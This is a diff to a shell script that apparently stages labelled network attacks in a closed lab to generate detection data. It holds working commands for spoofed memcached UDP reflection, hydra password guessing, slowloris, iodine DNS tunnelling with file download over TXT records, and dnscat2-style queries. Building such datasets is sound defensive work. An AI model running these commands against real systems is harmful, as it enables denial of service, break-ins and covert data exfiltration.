@@ -100,6 +100,7 @@ secure_chroot_dir=$work/www
 seccomp_sandbox=NO
 END
 serve $B vsftpd "$work/vsftpd.conf"
+serve $B iodined -f -c -P weir -l 198.51.100.3 10.9.0.1 t.example.test
 serve $B memcached -u root -U 11211 -l 0.0.0.0
 answers $B 198.51.100.2 21 22 53 80 8080 8081 11211
 
@@ -107,6 +108,7 @@ answers $B 198.51.100.2 21 22 53 80 8080 8081 11211
 
 # is_wanted NAME: whether it is to be made.
 is_wanted() { [ "$only" = "  " ] || [[ $only = *" $1 "* ]]; }
+if [ "$only" = "  " ]; then : >"$out/attacks.jsonl"; fi
 touch "$out/attacks.jsonl"
 
 # attack NAME KIND TOOL RATE ATTACKER VICTIM command...: captures one attack, with a little honest
@@ -197,7 +199,7 @@ reflect_syns() {
     sleep 2
 }
 attack reflection_syn syn_ack_reflection hping3 1000/s 198.51.100.10 192.0.2.1 reflect_syns
-# What memcached is asked for its counts with, by UDP.
+# The request for the counts of memcached, by UDP.
 printf '\x00\x01\x00\x00\x00\x01\x00\x00stats\r\n' >"$work/stats"
 attack reflection_memcached udp_reflection hping3 200/s 198.51.100.10 192.0.2.1 \
     r hping3 -q -n --udp -a 192.0.2.1 -p 11211 -d "$(stat -c %s "$work/stats")" \
@@ -218,27 +220,24 @@ attack guess_http http_guessing hydra "16 at a time" $me $server \
     e hydra -q -I -t 16 -l root -P "$work/passwords" -s 8081 $server http-get /
 attack slow_headers slowloris slowhttptest "50 connections/s" $me $server \
     e slowhttptest -c 100 -H -i 10 -r 50 -l 45 -u http://$server/ -p 5
+# tunnel OPTIONS command...: runs a command while a tunnel is up, whose client ends with it.
 tunnel() {
-    serve $B iodined -f -c -P weir -l 198.51.100.3 10.9.0.1 t.example.test
-    sleep 1
-    e iodine -f -r -P weir 198.51.100.3 t.example.test &
+    local options=$1 client; shift
+    # shellcheck disable=SC2086
+    timeout 90 ip netns exec $E iodine -f -r $options -P weir 198.51.100.3 t.example.test &
+    client=$!
     sleep 6
-    e ping -q -c 60 -i 0.3 -s 400 10.9.0.1
-    kill %% || true
+    "$@"
+    kill "$client" && wait "$client" || true
 }
-attack tunnel_iodine dns_tunnel iodine "3 KB/s" $me 198.51.100.3 tunnel
+attack tunnel_iodine dns_tunnel iodine "3 KB/s" $me 198.51.100.3 \
+    tunnel "" e ping -q -c 60 -i 0.3 -s 400 10.9.0.1
 
 # The end that is called sends a file to the one that calls, in TXT records.
 download() {
-    serve $B iodined -f -c -P weir -l 198.51.100.3 10.9.0.1 t.example.test
-    sleep 1
-    e iodine -f -r -T TXT -P weir 198.51.100.3 t.example.test &
-    sleep 6
-    local n
-    for n in $(seq 8); do e curl -s http://10.9.0.1:8080/numbers.txt >/dev/null || true; done
-    kill %% || true
+    for _ in $(seq 8); do e curl -s http://10.9.0.1:8080/numbers.txt >/dev/null || true; done
 }
-attack tunnel_download dns_download iodine "some KB/s" $me 198.51.100.3 download
+attack tunnel_download dns_download iodine "some KB/s" $me 198.51.100.3 tunnel "-T TXT" download
 # Questions as dnscat2 asks them: two labels of hexadecimal digits, for several kinds of records.
 hexadecimal() { head -c 30 /dev/urandom | od -An -v -tx1 | tr -d ' \n'; }
 ask_in_hexadecimal() {
